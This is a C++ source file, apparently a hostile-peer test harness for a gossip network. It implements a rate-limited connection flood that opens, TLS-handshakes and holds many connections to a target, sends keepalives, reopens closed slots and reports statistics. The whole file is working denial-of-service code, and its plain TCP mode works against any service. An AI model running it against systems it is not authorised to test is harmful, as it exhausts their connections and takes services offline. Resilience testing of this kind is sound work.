#include "flood.hpp"

#include "crypto/ed25519.hpp"
#include "gossip/transport/frame.hpp"
#include "gossip/transport/tls.hpp"

#include <boost/asio/executor_work_guard.hpp>
#include <boost/asio/io_context.hpp>
#include <boost/asio/ip/tcp.hpp>
#include <boost/asio/post.hpp>
#include <boost/asio/ssl/stream.hpp>
#include <boost/asio/steady_timer.hpp>
#include <boost/asio/write.hpp>

#include <fmt/core.h>

#include <netinet/in.h>

#include <array>
#include <deque>
#include <future>
#include <mutex>
#include <thread>
#include <vector>

namespace dtt::hostile {

namespace asio = boost::asio;
using tcp = asio::ip::tcp;
using clock_type = std::chrono::steady_clock;

bool parse_flood_mode(const std::string& s, flood_mode& out) {
  for (auto m : {flood_mode::tcp, flood_mode::tls_one, flood_mode::tls_many})
    if (s == to_string(m)) {
      out = m;
      return true;
    }
  return false;
}

const char* to_string(flood_mode m) noexcept {
  switch (m) {
    case flood_mode::tcp: return "tcp";
    case flood_mode::tls_one: return "tls-one";
    case flood_mode::tls_many: return "tls-many";
  }
  return "?";
}

std::string to_json(const flood_stats& s, double elapsed_s) {
  return fmt::format(
    "{{\"t\":{:.2f},\"open\":{},\"established\":{},\"attempts\":{},\"connected\":{},"
    "\"handshakes\":{},\"connect_failures\":{},\"handshake_failures\":{},"
    "\"closed_by_victim\":{},\"keepalives_sent\":{},\"max_lifetime_ms\":{},"
    "\"oldest_open_ms\":{}}}",
    elapsed_s, s.open, s.established, s.attempts, s.connected, s.handshakes, s.connect_failures,
    s.handshake_failures, s.closed_by_victim, s.keepalives_sent, s.max_lifetime.count(),
    s.oldest_open.count());
}

namespace {

// Deadlines of one attempt (the attacker's own; a full accept backlog drops SYNs silently).
constexpr std::chrono::seconds connect_deadline{5};
constexpr std::chrono::seconds handshake_deadline{10};
// The opener runs this often; the token bucket holds at most a tenth of a second of opens.
constexpr std::chrono::milliseconds tick{10};

struct conn {
  conn(asio::io_context& io, asio::ssl::context& ctx, size_t s)
    : stream(io, ctx), timer(io), slot(s) {}
  asio::ssl::stream<tcp::socket> stream;
  asio::steady_timer timer;
  net::peer_verification verification;
  std::shared_ptr<net::tls_identity> identity;
  size_t slot;
  clock_type::time_point opened{};
  bool up = false;
  bool tls_up = false;
  bool dead = false;
  bool writing = false;
  std::array<uint8_t, 4096> rbuf{};
  bytes keepalive;
};

} // namespace

class flood::impl : public std::enable_shared_from_this<impl> {
public:
  explicit impl(flood_options o)
    : o_(std::move(o)), work_(asio::make_work_guard(io_)), plain_(asio::ssl::context::tls_client),
      ticker_(io_) {}

  bool setup(std::string* why) {
    boost::system::error_code ec;
    target_ = tcp::endpoint(asio::ip::make_address(o_.target_ip, ec), o_.target_port);
    if (ec) {
      if (why)
        *why = "bad target address " + o_.target_ip;
      return false;
    }
    source_ = tcp::endpoint(asio::ip::make_address(o_.source_ip, ec), 0);
    if (ec) {
      if (why)
        *why = "bad source address " + o_.source_ip;
      return false;
    }
    size_t n = o_.mode == flood_mode::tls_many ? o_.connections
               : o_.mode == flood_mode::tls_one ? 1
                                                : 0;
    for (size_t i = 0; i < n; ++i) {
      auto id = net::tls_identity::create(crypto::signing_key::generate(), o_.alpn);
      if (!id) {
        if (why)
          *why = "TLS identity: " + id.err().message();
        return false;
      }
      ids_.push_back(*id);
    }
    slots_.resize(o_.connections);
    for (size_t i = 0; i < o_.connections; ++i)
      waiting_.push_back(i);
    tokens_ = 1;
    last_refill_ = clock_type::now();
    return true;
  }

  void run() {
    thread_ = std::thread([self = shared_from_this()] { self->io_.run(); });
    asio::post(io_, [self = shared_from_this()] { self->on_tick(); });
  }

  void stop() {
    std::lock_guard<std::mutex> g(stop_m_);
    if (!thread_.joinable())
      return;
    std::promise<void> closed;
    auto done = closed.get_future();
    asio::post(io_, [this, &closed] {
      stopping_ = true;
      ticker_.cancel();
      for (auto& c : slots_)
        if (c)
          retire(c, false);
      closed.set_value();
    });
    work_.reset();
    // Every operation was cancelled: run() returns once their handlers ran. A watchdog
    // bounds that (never a hang).
    if (done.wait_for(std::chrono::seconds(5)) != std::future_status::ready)
      io_.stop();
    auto finished = std::async(std::launch::async, [this] { thread_.join(); });
    if (finished.wait_for(std::chrono::seconds(5)) != std::future_status::ready) {
      io_.stop();
      finished.wait();
    }
  }

  flood_stats stats() const {
    std::lock_guard<std::mutex> g(m_);
    return st_;
  }

private:
  template <class F>
  void count(F f) {
    std::lock_guard<std::mutex> g(m_);
    f(st_);
  }

  asio::ssl::context& context_for(size_t slot, std::shared_ptr<net::tls_identity>& id) {
    if (ids_.empty())
      return plain_;
    id = ids_[ids_.size() == 1 ? 0 : slot % ids_.size()];
    return id->context();
  }

  void on_tick() {
    if (stopping_)
      return;
    auto now = clock_type::now();
    double dt = std::chrono::duration<double>(now - last_refill_).count();
    last_refill_ = now;
    double cap = std::max(1.0, o_.max_opens_per_second / 10);
    tokens_ = std::min(cap, tokens_ + dt * o_.max_opens_per_second);
    while (tokens_ >= 1 && !waiting_.empty()) {
      tokens_ -= 1;
      auto slot = waiting_.front();
      waiting_.pop_front();
      open(slot);
    }
    // The oldest open connection's age.
    clock_type::time_point oldest = now;
    for (auto& c : slots_)
      if (c && c->up && c->opened < oldest)
        oldest = c->opened;
    count([&](flood_stats& s) {
      s.oldest_open = std::chrono::duration_cast<std::chrono::milliseconds>(now - oldest);
    });
    ticker_.expires_after(tick);
    ticker_.async_wait([self = shared_from_this()](auto ec) {
      if (!ec)
        self->on_tick();
    });
  }

  void open(size_t slot) {
    std::shared_ptr<net::tls_identity> id;
    auto& ctx = context_for(slot, id);
    auto c = std::make_shared<conn>(io_, ctx, slot);
    c->identity = std::move(id);
    slots_[slot] = c;
    count([](flood_stats& s) { ++s.attempts; });
    auto& sock = c->stream.next_layer();
    boost::system::error_code ec;
    sock.open(tcp::v4(), ec);
    if (!ec) {
      // Pick the source port at connect time: many connections from one address.
      int one = 1;
      ::setsockopt(sock.native_handle(), IPPROTO_IP, IP_BIND_ADDRESS_NO_PORT, &one, sizeof one);
      sock.bind(source_, ec);
    }
    if (ec) {
      count([](flood_stats& s) { ++s.connect_failures; });
      retire(c, false);
      return;
    }
    arm_deadline(c, connect_deadline);
    sock.async_connect(target_, [self = shared_from_this(), c](auto ec2) {
      if (c->dead)
        return;
      if (ec2) {
        self->count([](flood_stats& s) { ++s.connect_failures; });
        self->retire(c, false);
        return;
      }
      c->up = true;
      c->opened = clock_type::now();
      self->count([](flood_stats& s) {
        ++s.connected;
        ++s.open;
      });
      if (self->o_.mode == flood_mode::tcp) {
        c->timer.cancel();
        self->read_tcp(c);
      } else {
        self->handshake(c);
      }
    });
  }

  void arm_deadline(const std::shared_ptr<conn>& c, std::chrono::seconds d) {
    c->timer.expires_after(d);
    c->timer.async_wait([self = shared_from_this(), c](auto ec) {
      if (!ec && !c->dead) {
        boost::system::error_code ignored;
        c->stream.next_layer().close(ignored); // the pending operation fails and retires it
      }
    });
  }

  void read_tcp(const std::shared_ptr<conn>& c) {
    c->stream.next_layer().async_read_some(
      asio::buffer(c->rbuf), [self = shared_from_this(), c](auto ec, size_t) {
        if (c->dead)
          return;
        if (ec) {
          self->retire(c, true);
          return;
        }
        self->read_tcp(c);
      });
  }

  void handshake(const std::shared_ptr<conn>& c) {
    arm_deadline(c, handshake_deadline);
    c->identity->prepare_client(c->stream.native_handle());
    net::tls_identity::attach_verification(c->stream.native_handle(), &c->verification);
    c->stream.async_handshake(asio::ssl::stream_base::client,
                              [self = shared_from_this(), c](auto ec) {
                                if (c->dead)
                                  return;
                                c->timer.cancel();
                                if (ec) {
                                  self->count([](flood_stats& s) { ++s.handshake_failures; });
                                  self->retire(c, true);
                                  return;
                                }
                                c->tls_up = true;
                                self->count([](flood_stats& s) {
                                  ++s.handshakes;
                                  ++s.established;
                                });
                                net::append_control(c->keepalive, net::control::keepalive);
                                self->read_tls(c);
                                self->keepalive(c);
                              });
  }

  void read_tls(const std::shared_ptr<conn>& c) {
    c->stream.async_read_some(asio::buffer(c->rbuf),
                              [self = shared_from_this(), c](auto ec, size_t) {
                                if (c->dead)
                                  return;
                                if (ec) {
                                  self->retire(c, true);
                                  return;
                                }
                                self->read_tls(c); // whatever the victim sends is dropped
                              });
  }

  void keepalive(const std::shared_ptr<conn>& c) {
    c->timer.expires_after(o_.keepalive_interval);
    c->timer.async_wait([self = shared_from_this(), c](auto ec) {
      if (ec || c->dead)
        return;
      if (!c->writing) {
        c->writing = true;
        asio::async_write(c->stream, asio::buffer(c->keepalive), [self, c](auto ec2, size_t) {
          c->writing = false;
          if (c->dead)
            return;
          if (ec2) {
            self->retire(c, true);
            return;
          }
          self->count([](flood_stats& s) { ++s.keepalives_sent; });
        });
      }
      self->keepalive(c);
    });
  }

  // Ends one connection; `by_victim`: the victim closed it (counted with its lifetime).
  void retire(const std::shared_ptr<conn>& c, bool by_victim) {
    if (c->dead)
      return;
    c->dead = true;
    auto now = clock_type::now();
    count([&](flood_stats& s) {
      if (c->up)
        --s.open;
      if (c->tls_up)
        --s.established;
      if (by_victim && c->up) {
        ++s.closed_by_victim;
        s.max_lifetime = std::max(
          s.max_lifetime, std::chrono::duration_cast<std::chrono::milliseconds>(now - c->opened));
      }
    });
    boost::system::error_code ignored;
    c->timer.cancel();
    c->stream.next_layer().close(ignored);
    if (slots_[c->slot] == c)
      slots_[c->slot].reset();
    if (o_.reopen && !stopping_)
      waiting_.push_back(c->slot);
  }

  flood_options o_;
  asio::io_context io_;
  asio::executor_work_guard<asio::io_context::executor_type> work_;
  asio::ssl::context plain_;
  asio::steady_timer ticker_;
  std::thread thread_;
  std::mutex stop_m_;
  tcp::endpoint target_;
  tcp::endpoint source_;
  std::vector<std::shared_ptr<net::tls_identity>> ids_;
  std::vector<std::shared_ptr<conn>> slots_;
  std::deque<size_t> waiting_;
  double tokens_ = 0;
  clock_type::time_point last_refill_{};
  bool stopping_ = false;
  mutable std::mutex m_;
  flood_stats st_;
};

std::unique_ptr<flood> flood::start(const flood_options& o, std::string* why) {
  auto p = std::make_shared<impl>(o);
  if (!p->setup(why))
    return nullptr;
  p->run();
  return std::unique_ptr<flood>(new flood(std::move(p)));
}

flood::~flood() { stop(); }

void flood::stop() { impl_->stop(); }

flood_stats flood::stats() const { return impl_->stats(); }

} // namespace dtt::hostile
